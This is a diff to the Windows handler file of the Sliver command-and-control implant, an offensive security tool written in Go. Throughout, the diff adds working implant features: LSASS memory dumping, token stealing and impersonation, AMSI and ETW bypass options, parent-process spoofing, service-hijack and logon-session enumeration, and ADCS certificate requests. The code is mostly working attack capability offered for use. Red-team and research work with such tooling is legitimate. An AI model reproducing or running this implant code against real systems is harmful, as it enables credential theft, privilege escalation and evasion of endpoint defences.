@@ -21,7 +21,7 @@ package handlers
 import (
 	"bufio"
 	"bytes"
-	"fmt"
+	"context"
 	"io"
 	"os"
 	"runtime"
@@ -31,10 +31,11 @@ import (
 	// {{end}}
 
 	"os/exec"
-	"syscall"
 
+	"github.com/bishopfox/sliver/implant/sliver/adcs"
 	"github.com/bishopfox/sliver/implant/sliver/extension"
 	"github.com/bishopfox/sliver/implant/sliver/priv"
+	"github.com/bishopfox/sliver/implant/sliver/procdump"
 	"github.com/bishopfox/sliver/implant/sliver/registry"
 	"github.com/bishopfox/sliver/implant/sliver/service"
 	"github.com/bishopfox/sliver/implant/sliver/spoof"
@@ -64,18 +65,35 @@ var (
 		sliverpb.MsgStartServiceReq:                startService,
 		sliverpb.MsgStopServiceReq:                 stopService,
 		sliverpb.MsgRemoveServiceReq:               removeService,
+		sliverpb.MsgServicesReq:                    servicesHandler,
+		sliverpb.MsgServiceStartReq:                serviceStartHandler,
+		sliverpb.MsgCreateServiceReq:               createServiceHandler,
+		sliverpb.MsgServiceConfigReq:               serviceConfigHandler,
+		sliverpb.MsgLsassDumpReq:                   lsassDumpHandler,
 		sliverpb.MsgEnvReq:                         getEnvHandler,
 		sliverpb.MsgSetEnvReq:                      setEnvHandler,
 		sliverpb.MsgUnsetEnvReq:                    unsetEnvHandler,
 		sliverpb.MsgExecuteWindowsReq:              executeWindowsHandler,
 		sliverpb.MsgGetPrivsReq:                    getPrivsHandler,
+		sliverpb.MsgLogonSessionsReq:               logonSessionsHandler,
+		sliverpb.MsgLocalGroupsReq:                 localGroupsHandler,
+		sliverpb.MsgServiceHijacksReq:              serviceHijacksHandler,
+		sliverpb.MsgAdcsEnumReq:                    adcsEnumHandler,
+		sliverpb.MsgAdcsRequestReq:                 adcsRequestHandler,
 		sliverpb.MsgCurrentTokenOwnerReq:           currentTokenOwnerHandler,
+		sliverpb.MsgStealTokenReq:                  stealTokenHandler,
+		sliverpb.MsgTokensReq:                      tokensHandler,
 
 		// Platform specific
 		sliverpb.MsgIfconfigReq:            ifconfigHandler,
 		sliverpb.MsgScreenshotReq:          screenshotHandler,
 		sliverpb.MsgSideloadReq:            sideloadHandler,
+		sliverpb.MsgInlineExecuteReq:       inlineExecuteHandler,
+		sliverpb.MsgValidateCredsReq:       validateCredsHandler,
+		sliverpb.MsgClipboardReq:           clipboardHandler,
 		sliverpb.MsgNetstatReq:             netstatHandler,
+		sliverpb.MsgPresenceReq:            presenceHandler,
+		sliverpb.MsgSurveyReq:              surveyHandler,
 		sliverpb.MsgMakeTokenReq:           makeTokenHandler,
 		sliverpb.MsgPsReq:                  psHandler,
 		sliverpb.MsgTerminateReq:           terminateHandler,
@@ -85,10 +103,13 @@ var (
 		sliverpb.MsgRegistryDeleteKeyReq:   regDeleteKeyHandler,
 		sliverpb.MsgRegistrySubKeysListReq: regSubKeysListHandler,
 		sliverpb.MsgRegistryListValuesReq:  regValuesListHandler,
+		sliverpb.MsgRegistryExportReq:      regExportHandler,
+		sliverpb.MsgRegistrySearchReq:      regSearchHandler,
 
 		// Generic
 		sliverpb.MsgPing:           pingHandler,
 		sliverpb.MsgLsReq:          dirListHandler,
+		sliverpb.MsgSearchReq:      searchHandler,
 		sliverpb.MsgDownloadReq:    downloadHandler,
 		sliverpb.MsgUploadReq:      uploadHandler,
 		sliverpb.MsgCdReq:          cdHandler,
@@ -98,9 +119,14 @@ var (
 		sliverpb.MsgMkdirReq:       mkdirHandler,
 		sliverpb.MsgExecuteReq:     executeHandler,
 		sliverpb.MsgReconfigureReq: reconfigureHandler,
+		sliverpb.MsgRedirectReq:    redirectHandler,
 		sliverpb.MsgSSHCommandReq:  runSSHCommandHandler,
 		sliverpb.MsgChtimesReq:     chtimesHandler,
 
+		// {{if .Config.HTTPc2Enabled}}
+		sliverpb.MsgProxySetReq: proxySetHandler,
+		// {{end}}
+
 		// Extensions
 		sliverpb.MsgRegisterExtensionReq: registerExtensionHandler,
 		sliverpb.MsgCallExtensionReq:     callExtensionHandler,
@@ -114,6 +140,7 @@ var (
 		sliverpb.MsgWGStartSocksReq:     wgStartSocksHandler,
 		sliverpb.MsgWGStopSocksReq:      wgStopSocksHandler,
 		sliverpb.MsgWGListSocksReq:      wgListSocksServersHandler,
+		sliverpb.MsgWGRotateKeysReq:     wgRotateKeysHandler,
 		// {{end}}
 	}
 )
@@ -123,6 +150,15 @@ func GetSystemHandlers() map[uint32]RPCHandler {
 	return windowsHandlers
 }
 
+func init() {
+	runHandler = WrapperHandler
+	contextHandlers[sliverpb.MsgExecuteWindowsReq] = executeWindowsContextHandler
+}
+
+// WrapperHandler - Beware, here be dragons.
+// This is required for the specific case of token impersonation:
+// Since goroutines don't always execute in the same thread, but ImpersonateLoggedOnUser
+// only applies the token to the calling thread, we need to call it before every task.
 func WrapperHandler(handler RPCHandler, data []byte, resp RPCResponse) {
 	if priv.CurrentToken != 0 {
 		err := syscalls.ImpersonateLoggedOnUser(priv.CurrentToken)
@@ -162,7 +198,9 @@ func impersonateHandler(data []byte, resp RPCResponse) {
 	}
 	impersonate := &sliverpb.Impersonate{}
 	if err != nil {
-		impersonate.Response = &commonpb.Response{Err: err.Error()}
+		impersonate.Response = sliverpb.ErrorResponse(err)
+	} else {
+		impersonate.Owner = impersonateReq.Username
 	}
 	data, err = proto.Marshal(impersonate)
 	resp(data, err)
@@ -184,7 +222,7 @@ func runAsHandler(data []byte, resp RPCResponse) {
 	err = priv.RunAs(runAsReq.Username, runAsReq.Domain, runAsReq.Password, runAsReq.ProcessName, runAsReq.Args, show, runAsReq.NetOnly)
 	runAs := &sliverpb.RunAs{}
 	if err != nil {
-		runAs.Response = &commonpb.Response{Err: err.Error()}
+		runAs.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(runAs)
 	resp(data, err)
@@ -198,7 +236,7 @@ func revToSelfHandler(_ []byte, resp RPCResponse) {
 	err := priv.RevertToSelf()
 	revToSelf := &sliverpb.RevToSelf{}
 	if err != nil {
-		revToSelf.Response = &commonpb.Response{Err: err.Error()}
+		revToSelf.Response = sliverpb.ErrorResponse(err)
 	}
 	//{{if .Config.Debug}}
 	log.Println("revToSelf done!")
@@ -207,6 +245,64 @@ func revToSelfHandler(_ []byte, resp RPCResponse) {
 	resp(data, err)
 }
 
+func stealTokenHandler(data []byte, resp RPCResponse) {
+	stealTokenReq := &sliverpb.StealTokenReq{}
+	err := proto.Unmarshal(data, stealTokenReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	stealToken := &sliverpb.StealToken{}
+	token, err := priv.StealToken(stealTokenReq.Pid)
+	if err != nil {
+		stealToken.Response = sliverpb.ErrorResponse(err)
+	} else {
+		taskrunner.CurrentToken = token.Token
+		stealToken.Owner = token.Owner
+	}
+	data, err = proto.Marshal(stealToken)
+	resp(data, err)
+}
+
+func tokensHandler(data []byte, resp RPCResponse) {
+	tokensReq := &sliverpb.TokensReq{}
+	err := proto.Unmarshal(data, tokensReq)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("error decoding message: %v", err)
+		// {{end}}
+		return
+	}
+	tokens := &sliverpb.Tokens{}
+	if tokensReq.Remove != 0 {
+		err = priv.RemoveToken(tokensReq.Remove)
+		taskrunner.CurrentToken = priv.CurrentToken
+	} else if tokensReq.Use != 0 {
+		var token *priv.StoredToken
+		token, err = priv.UseToken(tokensReq.Use)
+		if err == nil {
+			taskrunner.CurrentToken = token.Token
+		}
+	}
+	if err != nil {
+		tokens.Response = sliverpb.ErrorResponse(err)
+	}
+	for _, token := range priv.Tokens() {
+		tokens.Tokens = append(tokens.Tokens, &sliverpb.Token{
+			ID:        token.ID,
+			Owner:     token.Owner,
+			Source:    token.Source,
+			Pid:       token.Pid,
+			LogonType: token.LogonType,
+			Active:    token.Token == priv.CurrentToken,
+		})
+	}
+	data, err = proto.Marshal(tokens)
+	resp(data, err)
+}
+
 func currentTokenOwnerHandler(data []byte, resp RPCResponse) {
 	tokOwnReq := &sliverpb.CurrentTokenOwnerReq{}
 	err := proto.Unmarshal(data, tokOwnReq)
@@ -220,7 +316,7 @@ func currentTokenOwnerHandler(data []byte, resp RPCResponse) {
 	getCT := &sliverpb.CurrentTokenOwner{}
 	owner, err := priv.CurrentTokenOwner()
 	if err != nil {
-		getCT.Response = &commonpb.Response{Err: err.Error()}
+		getCT.Response = sliverpb.ErrorResponse(err)
 	}
 	getCT.Output = owner
 	data, err = proto.Marshal(getCT)
@@ -239,7 +335,7 @@ func getsystemHandler(data []byte, resp RPCResponse) {
 	err = priv.GetSystem(getSysReq.Data, getSysReq.HostingProcess)
 	getSys := &sliverpb.GetSystem{}
 	if err != nil {
-		getSys.Response = &commonpb.Response{Err: err.Error()}
+		getSys.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(getSys)
 	resp(data, err)
@@ -254,12 +350,11 @@ func executeAssemblyHandler(data []byte, resp RPCResponse) {
 		// {{end}}
 		return
 	}
-	output, err := taskrunner.ExecuteAssembly(execReq.Data, execReq.Process, execReq.ProcessArgs, execReq.PPid)
+	bypass := taskrunner.Bypass{Amsi: execReq.AmsiBypass, Etw: execReq.EtwBypass, Technique: execReq.BypassTechnique}
+	output, err := taskrunner.ExecuteAssembly(execReq.Data, execReq.Process, execReq.ProcessArgs, execReq.PPid, execReq.BlockDLLs, injection(execReq.Injection), bypass)
 	execAsm := &sliverpb.ExecuteAssembly{Output: []byte(output)}
 	if err != nil {
-		execAsm.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		execAsm.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(execAsm)
 	resp(data, err)
@@ -275,18 +370,21 @@ func inProcExecuteAssemblyHandler(data []byte, resp RPCResponse) {
 		// {{end}}
 		return
 	}
-	output, err := taskrunner.InProcExecuteAssembly(execReq.Data, execReq.Arguments, execReq.Runtime, execReq.AmsiBypass, execReq.EtwBypass)
+	bypass := taskrunner.Bypass{Amsi: execReq.AmsiBypass, Etw: execReq.EtwBypass, Technique: execReq.BypassTechnique}
+	output, err := taskrunner.InProcExecuteAssembly(execReq.Data, execReq.Arguments, execReq.Runtime, bypass)
 	execAsm := &sliverpb.ExecuteAssembly{Output: []byte(output)}
 	if err != nil {
-		execAsm.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		execAsm.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(execAsm)
 	resp(data, err)
 }
 
 func executeWindowsHandler(data []byte, resp RPCResponse) {
+	executeWindowsContextHandler(context.Background(), data, resp)
+}
+
+func executeWindowsContextHandler(ctx context.Context, data []byte, resp RPCResponse) {
 	var (
 		err       error
 		stdErr    io.Writer
@@ -306,28 +404,22 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 	execResp := &sliverpb.Execute{}
 	exePath, err := expandPath(execReq.Path)
 	if err != nil {
-		execResp.Response = &commonpb.Response{
-			Err: fmt.Sprintf("%s", err),
-		}
+		execResp.Response = sliverpb.ErrorResponse(err)
 		proto.Marshal(execResp)
 		resp(data, err)
 		return
 	}
-	cmd := exec.Command(exePath, execReq.Args...)
+	cmd := spoof.Command(exePath, execReq.Args...)
+	if execReq.Output {
+		cmd = spoof.CommandContext(ctx, exePath, execReq.Args...)
+	}
 
 	// Execute with current token
-	cmd.SysProcAttr = &syscall.SysProcAttr{}
 	if execReq.UseToken {
-		cmd.SysProcAttr.Token = syscall.Token(priv.CurrentToken)
-	}
-	if execReq.PPid != 0 {
-		err := spoof.SpoofParent(execReq.PPid, cmd)
-		if err != nil {
-			// {{if .Config.Debug}}
-			log.Printf("could not spoof parent PID: %v\n", err)
-			// {{end}}
-		}
+		cmd.Token = priv.CurrentToken
 	}
+	cmd.PPid = execReq.PPid
+	cmd.BlockDLLs = execReq.BlockDLLs
 
 	if execReq.Output {
 		stdOutBuff := new(bytes.Buffer)
@@ -337,9 +429,7 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 		if execReq.Stderr != "" {
 			stdErrFile, err := os.Create(execReq.Stderr)
 			if err != nil {
-				execResp.Response = &commonpb.Response{
-					Err: fmt.Sprintf("%s", err),
-				}
+				execResp.Response = sliverpb.ErrorResponse(err)
 				proto.Marshal(execResp)
 				resp(data, err)
 				return
@@ -351,9 +441,7 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 		if execReq.Stdout != "" {
 			stdOutFile, err := os.Create(execReq.Stdout)
 			if err != nil {
-				execResp.Response = &commonpb.Response{
-					Err: fmt.Sprintf("%s", err),
-				}
+				execResp.Response = sliverpb.ErrorResponse(err)
 				proto.Marshal(execResp)
 				resp(data, err)
 				return
@@ -373,9 +461,7 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 			if exiterr, ok := err.(*exec.ExitError); ok {
 				execResp.Status = uint32(exiterr.ExitCode())
 			} else {
-				execResp.Response = &commonpb.Response{
-					Err: fmt.Sprintf("%s", err),
-				}
+				execResp.Response = sliverpb.ErrorResponse(err)
 			}
 		}
 		if errWriter != nil {
@@ -389,9 +475,7 @@ func executeWindowsHandler(data []byte, resp RPCResponse) {
 	} else {
 		err = cmd.Start()
 		if err != nil {
-			execResp.Response = &commonpb.Response{
-				Err: fmt.Sprintf("%s", err),
-			}
+			execResp.Response = sliverpb.ErrorResponse(err)
 		}
 	}
 	data, err = proto.Marshal(execResp)
@@ -410,16 +494,14 @@ func migrateHandler(data []byte, resp RPCResponse) {
 		// {{end}}
 		return
 	}
-	err = taskrunner.RemoteTask(int(migrateReq.Pid), migrateReq.Data, false)
+	err = taskrunner.RemoteTask(int(migrateReq.Pid), migrateReq.Data, false, injection(migrateReq.Injection))
 	// {{if .Config.Debug}}
 	log.Println("migrateHandler: RemoteTask called")
 	// {{end}}
 	migrateResp := &sliverpb.Migrate{Success: true}
 	if err != nil {
 		migrateResp.Success = false
-		migrateResp.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		migrateResp.Response = sliverpb.ErrorResponse(err)
 		// {{if .Config.Debug}}
 		log.Println("migrateHandler: RemoteTask failed:", err)
 		// {{end}}
@@ -441,12 +523,10 @@ func spawnDllHandler(data []byte, resp RPCResponse) {
 	//{{if .Config.Debug}}
 	log.Printf("ProcName: %s\tOffset:%x\tArgs:%s\n", spawnReq.GetProcessName(), spawnReq.GetOffset(), spawnReq.GetArgs())
 	//{{end}}
-	result, err := taskrunner.SpawnDll(spawnReq.GetProcessName(), spawnReq.GetProcessArgs(), spawnReq.GetPPid(), spawnReq.GetData(), spawnReq.GetOffset(), spawnReq.GetArgs(), spawnReq.Kill)
+	result, err := taskrunner.SpawnDll(spawnReq.GetProcessName(), spawnReq.GetProcessArgs(), spawnReq.GetPPid(), spawnReq.GetData(), spawnReq.GetOffset(), spawnReq.GetArgs(), spawnReq.Kill, injection(spawnReq.Injection))
 	spawnResp := &sliverpb.SpawnDll{Result: result}
 	if err != nil {
-		spawnResp.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		spawnResp.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(spawnResp)
@@ -460,11 +540,11 @@ func makeTokenHandler(data []byte, resp RPCResponse) {
 		return
 	}
 	makeTokenResp := &sliverpb.MakeToken{}
-	err = priv.MakeToken(makeTokenReq.Domain, makeTokenReq.Username, makeTokenReq.Password, makeTokenReq.LogonType)
+	token, err := priv.MakeToken(makeTokenReq.Domain, makeTokenReq.Username, makeTokenReq.Password, makeTokenReq.LogonType)
 	if err != nil {
-		makeTokenResp.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		makeTokenResp.Response = sliverpb.ErrorResponse(err)
+	} else {
+		makeTokenResp.Owner = token.Owner
 	}
 	data, err = proto.Marshal(makeTokenResp)
 	resp(data, err)
@@ -479,9 +559,7 @@ func startService(data []byte, resp RPCResponse) {
 	err = service.StartService(startService.GetHostname(), startService.GetBinPath(), startService.GetArguments(), startService.GetServiceName(), startService.GetServiceDescription())
 	startServiceResp := &sliverpb.ServiceInfo{}
 	if err != nil {
-		startServiceResp.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		startServiceResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(startServiceResp)
 	resp(data, err)
@@ -496,9 +574,7 @@ func stopService(data []byte, resp RPCResponse) {
 	err = service.StopService(stopServiceReq.ServiceInfo.Hostname, stopServiceReq.ServiceInfo.ServiceName)
 	svcInfo := &sliverpb.ServiceInfo{}
 	if err != nil {
-		svcInfo.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		svcInfo.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(svcInfo)
 	resp(data, err)
@@ -513,14 +589,90 @@ func removeService(data []byte, resp RPCResponse) {
 	err = service.RemoveService(removeServiceReq.ServiceInfo.Hostname, removeServiceReq.ServiceInfo.ServiceName)
 	svcInfo := &sliverpb.ServiceInfo{}
 	if err != nil {
-		svcInfo.Response = &commonpb.Response{
-			Err: err.Error(),
-		}
+		svcInfo.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(svcInfo)
 	resp(data, err)
 }
 
+func servicesHandler(data []byte, resp RPCResponse) {
+	servicesReq := &sliverpb.ServicesReq{}
+	err := proto.Unmarshal(data, servicesReq)
+	if err != nil {
+		return
+	}
+	services := &sliverpb.Services{Response: &commonpb.Response{}}
+	services.Details, err = service.ListServices(servicesReq.Hostname)
+	if err != nil {
+		services.Response = sliverpb.ErrorResponse(err)
+	}
+	data, err = proto.Marshal(services)
+	resp(data, err)
+}
+
+func serviceStartHandler(data []byte, resp RPCResponse) {
+	serviceStartReq := &sliverpb.ServiceStartReq{}
+	err := proto.Unmarshal(data, serviceStartReq)
+	if err != nil {
+		return
+	}
+	detail, err := service.StartExistingService(serviceStartReq.ServiceInfo.GetHostname(), serviceStartReq.ServiceInfo.GetServiceName(), serviceStartReq.Arguments)
+	if err != nil {
+		detail = &sliverpb.ServiceDetail{Response: sliverpb.ErrorResponse(err)}
+	}
+	data, err = proto.Marshal(detail)
+	resp(data, err)
+}
+
+func createServiceHandler(data []byte, resp RPCResponse) {
+	createServiceReq := &sliverpb.CreateServiceReq{}
+	err := proto.Unmarshal(data, createServiceReq)
+	if err != nil {
+		return
+	}
+	detail, err := service.CreateServiceConfig(createServiceReq)
+	if err != nil {
+		detail = &sliverpb.ServiceDetail{Response: sliverpb.ErrorResponse(err)}
+	}
+	data, err = proto.Marshal(detail)
+	resp(data, err)
+}
+
+func serviceConfigHandler(data []byte, resp RPCResponse) {
+	serviceConfigReq := &sliverpb.ServiceConfigReq{}
+	err := proto.Unmarshal(data, serviceConfigReq)
+	if err != nil {
+		return
+	}
+	detail, err := service.ConfigureService(serviceConfigReq)
+	if err != nil {
+		detail = &sliverpb.ServiceDetail{Response: sliverpb.ErrorResponse(err)}
+	}
+	data, err = proto.Marshal(detail)
+	resp(data, err)
+}
+
+func lsassDumpHandler(data []byte, resp RPCResponse) {
+	lsassDumpReq := &sliverpb.LsassDumpReq{}
+	err := proto.Unmarshal(data, lsassDumpReq)
+	if err != nil {
+		return
+	}
+	dump, pid, err := procdump.DumpLsass(lsassDumpReq.Technique, lsassDumpReq.Clone, uint32(lsassDumpReq.Pid), lsassDumpReq.Key)
+	lsassDump := &sliverpb.LsassDump{
+		Data:      dump,
+		Pid:       int32(pid),
+		Technique: lsassDumpReq.Technique,
+		Clone:     lsassDumpReq.Clone,
+		Size:      uint64(len(dump)),
+	}
+	if err != nil {
+		lsassDump.Response = sliverpb.ErrorResponse(err)
+	}
+	data, err = proto.Marshal(lsassDump)
+	resp(data, err)
+}
+
 func regWriteHandler(data []byte, resp RPCResponse) {
 	regWriteReq := &sliverpb.RegistryWriteReq{}
 	err := proto.Unmarshal(data, regWriteReq)
@@ -545,7 +697,7 @@ func regWriteHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		regWriteResp.Response.Err = err.Error()
+		regWriteResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(regWriteResp)
 	resp(data, err)
@@ -563,7 +715,7 @@ func regReadHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		regReadResp.Response.Err = err.Error()
+		regReadResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(regReadResp)
 	resp(data, err)
@@ -580,7 +732,7 @@ func regCreateKeyHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		createResp.Response.Err = err.Error()
+		createResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(createResp)
 	resp(data, err)
@@ -597,7 +749,7 @@ func regDeleteKeyHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		deleteResp.Response.Err = err.Error()
+		deleteResp.Response = sliverpb.ErrorResponse(err)
 	}
 	data, err = proto.Marshal(deleteResp)
 	resp(data, err)
@@ -609,12 +761,17 @@ func regSubKeysListHandler(data []byte, resp RPCResponse) {
 	if err != nil {
 		return
 	}
-	subKeys, err := registry.ListSubKeys(listReq.Hostname, listReq.Hive, listReq.Path)
+	var subKeys []string
+	if listReq.Recursive {
+		subKeys, err = registry.ListSubKeysRecursive(listReq.Hostname, listReq.Hive, listReq.Path, listReq.Depth)
+	} else {
+		subKeys, err = registry.ListSubKeys(listReq.Hostname, listReq.Hive, listReq.Path)
+	}
 	regListResp := &sliverpb.RegistrySubKeyList{
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		regListResp.Response.Err = err.Error()
+		regListResp.Response = sliverpb.ErrorResponse(err)
 	} else {
 		regListResp.Subkeys = subKeys
 	}
@@ -633,7 +790,7 @@ func regValuesListHandler(data []byte, resp RPCResponse) {
 		Response: &commonpb.Response{},
 	}
 	if err != nil {
-		regListResp.Response.Err = err.Error()
+		regListResp.Response = sliverpb.ErrorResponse(err)
 	} else {
 		regListResp.ValueNames = regValues
 	}
@@ -641,6 +798,36 @@ func regValuesListHandler(data []byte, resp RPCResponse) {
 	resp(data, err)
 }
 
+func regExportHandler(data []byte, resp RPCResponse) {
+	exportReq := &sliverpb.RegistryExportReq{}
+	err := proto.Unmarshal(data, exportReq)
+	if err != nil {
+		return
+	}
+	export, err := registry.Export(exportReq.Hostname, exportReq.Hive, exportReq.Path)
+	if err != nil {
+		export = &sliverpb.RegistryExport{Hive: exportReq.Hive}
+	}
+	export.Response = sliverpb.ErrorResponse(err)
+	data, err = proto.Marshal(export)
+	resp(data, err)
+}
+
+func regSearchHandler(data []byte, resp RPCResponse) {
+	searchReq := &sliverpb.RegistrySearchReq{}
+	err := proto.Unmarshal(data, searchReq)
+	if err != nil {
+		return
+	}
+	search, err := registry.Search(searchReq)
+	if err != nil {
+		search = &sliverpb.RegistrySearch{}
+	}
+	search.Response = sliverpb.ErrorResponse(err)
+	data, err = proto.Marshal(search)
+	resp(data, err)
+}
+
 func getPrivsHandler(data []byte, resp RPCResponse) {
 	createReq := &sliverpb.GetPrivsReq{}
 
@@ -680,13 +867,166 @@ func getPrivsHandler(data []byte, resp RPCResponse) {
 	}
 
 	if err != nil {
-		getPrivsResp.Response.Err = err.Error()
+		getPrivsResp.Response = sliverpb.ErrorResponse(err)
 	}
 
 	data, err = proto.Marshal(getPrivsResp)
 	resp(data, err)
 }
 
+func logonSessionsHandler(data []byte, resp RPCResponse) {
+	logonsReq := &sliverpb.LogonSessionsReq{}
+	err := proto.Unmarshal(data, logonsReq)
+	if err != nil {
+		return
+	}
+
+	logonsResp := &sliverpb.LogonSessions{Response: &commonpb.Response{}}
+	sessions, err := priv.LogonSessions()
+	if err != nil {
+		logonsResp.Response = sliverpb.ErrorResponse(err)
+	}
+	for _, session := range sessions {
+		tokens := []*sliverpb.LogonSessionToken{}
+		for _, token := range session.Tokens {
+			tokens = append(tokens, &sliverpb.LogonSessionToken{
+				Pid:        int32(token.Pid),
+				Executable: token.Executable,
+				Integrity:  token.Integrity,
+			})
+		}
+		logonsResp.Sessions = append(logonsResp.Sessions, &sliverpb.LogonSession{
+			LogonID:        session.LogonID,
+			Username:       session.Username,
+			Domain:         session.Domain,
+			LogonType:      session.LogonType,
+			Session:        session.Session,
+			SID:            session.SID,
+			AuthPackage:    session.AuthPackage,
+			LogonServer:    session.LogonServer,
+			DnsDomain:      session.DnsDomain,
+			UPN:            session.UPN,
+			LogonTime:      session.LogonTime,
+			SessionState:   session.SessionState,
+			IdleTime:       session.IdleTime,
+			HasCredentials: session.HasCredentials,
+			Tokens:         tokens,
+		})
+	}
+
+	data, err = proto.Marshal(logonsResp)
+	resp(data, err)
+}
+
+func localGroupsHandler(data []byte, resp RPCResponse) {
+	localGroupsReq := &sliverpb.LocalGroupsReq{}
+	err := proto.Unmarshal(data, localGroupsReq)
+	if err != nil {
+		return
+	}
+
+	localGroupsResp := &sliverpb.LocalGroups{Response: &commonpb.Response{}}
+	token := priv.CurrentToken
+	if localGroupsReq.Username != "" {
+		token, err = priv.LogonNetOnly(localGroupsReq.Domain, localGroupsReq.Username, localGroupsReq.Password)
+		if err != nil {
+			localGroupsResp.Response = sliverpb.ErrorResponse(err)
+			data, err = proto.Marshal(localGroupsResp)
+			resp(data, err)
+			return
+		}
+		defer token.Close()
+	}
+	for _, group := range priv.LocalGroups(localGroupsReq.Hosts, localGroupsReq.Groups, token) {
+		members := []*sliverpb.LocalGroupMember{}
+		for _, member := range group.Members {
+			members = append(members, &sliverpb.LocalGroupMember{
+				Name: member.Name,
+				SID:  member.SID,
+				Type: member.Type,
+			})
+		}
+		localGroup := &sliverpb.LocalGroup{
+			Host:    group.Host,
+			Name:    group.Name,
+			SID:     group.SID,
+			Members: members,
+		}
+		if group.Err != nil {
+			localGroup.Err = group.Err.Error()
+		}
+		localGroupsResp.Groups = append(localGroupsResp.Groups, localGroup)
+	}
+
+	data, err = proto.Marshal(localGroupsResp)
+	resp(data, err)
+}
+
+func serviceHijacksHandler(data []byte, resp RPCResponse) {
+	serviceHijacksReq := &sliverpb.ServiceHijacksReq{}
+	err := proto.Unmarshal(data, serviceHijacksReq)
+	if err != nil {
+		return
+	}
+
+	serviceHijacksResp := &sliverpb.ServiceHijacks{Response: &commonpb.Response{}}
+	hijacks, err := priv.ServiceHijacks()
+	if err != nil {
+		serviceHijacksResp.Response = sliverpb.ErrorResponse(err)
+	}
+	for _, hijack := range hijacks {
+		serviceHijacksResp.Hijacks = append(serviceHijacksResp.Hijacks, &sliverpb.ServiceHijack{
+			Service:     hijack.Service,
+			DisplayName: hijack.DisplayName,
+			Account:     hijack.Account,
+			StartType:   hijack.StartType,
+			ImagePath:   hijack.ImagePath,
+			Technique:   hijack.Technique,
+			Path:        hijack.Path,
+		})
+	}
+
+	data, err = proto.Marshal(serviceHijacksResp)
+	resp(data, err)
+}
+
+func adcsEnumHandler(data []byte, resp RPCResponse) {
+	adcsEnumReq := &sliverpb.AdcsEnumReq{}
+	err := proto.Unmarshal(data, adcsEnumReq)
+	if err != nil {
+		return
+	}
+
+	adcsEnumResp, err := adcs.Enum(adcsEnumReq.Server, priv.CurrentToken)
+	if err != nil {
+		adcsEnumResp = &sliverpb.AdcsEnum{Response: sliverpb.ErrorResponse(err)}
+	} else {
+		adcsEnumResp.Response = &commonpb.Response{}
+	}
+
+	data, err = proto.Marshal(adcsEnumResp)
+	resp(data, err)
+}
+
+func adcsRequestHandler(data []byte, resp RPCResponse) {
+	adcsRequestReq := &sliverpb.AdcsRequestReq{}
+	err := proto.Unmarshal(data, adcsRequestReq)
+	if err != nil {
+		return
+	}
+
+	adcsRequestResp, err := adcs.Request(adcsRequestReq.CA, adcsRequestReq.Template, adcsRequestReq.CSR,
+		adcsRequestReq.Attributes, adcsRequestReq.HTTPS, priv.CurrentToken)
+	if err != nil {
+		adcsRequestResp = &sliverpb.AdcsRequest{Response: sliverpb.ErrorResponse(err)}
+	} else {
+		adcsRequestResp.Response = &commonpb.Response{}
+	}
+
+	data, err = proto.Marshal(adcsRequestResp)
+	resp(data, err)
+}
+
 // Extensions
 
 func registerExtensionHandler(data []byte, resp RPCResponse) {
@@ -699,7 +1039,7 @@ func registerExtensionHandler(data []byte, resp RPCResponse) {
 	err = ext.Load()
 	registerResp := &sliverpb.RegisterExtension{Response: &commonpb.Response{}}
 	if err != nil {
-		registerResp.Response.Err = err.Error()
+		registerResp.Response = sliverpb.ErrorResponse(err)
 	} else {
 		extension.Add(ext)
 	}
@@ -715,6 +1055,13 @@ func callExtensionHandler(data []byte, resp RPCResponse) {
 	}
 
 	callResp := &sliverpb.CallExtension{Response: &commonpb.Response{}}
+	err = taskrunner.BypassLocal(taskrunner.Bypass{Amsi: callReq.AmsiBypass, Etw: callReq.EtwBypass, Technique: callReq.BypassTechnique})
+	if err != nil {
+		callResp.Response = sliverpb.ErrorResponse(err)
+		data, err = proto.Marshal(callResp)
+		resp(data, err)
+		return
+	}
 	gotOutput := false
 	err = extension.Run(callReq.Name, callReq.Export, callReq.Args, func(out []byte) {
 		gotOutput = true
@@ -725,7 +1072,7 @@ func callExtensionHandler(data []byte, resp RPCResponse) {
 	// Only send back synchronously if there was an error
 	if err != nil || !gotOutput {
 		if err != nil {
-			callResp.Response.Err = err.Error()
+			callResp.Response = sliverpb.ErrorResponse(err)
 		}
 		data, err = proto.Marshal(callResp)
 		resp(data, err)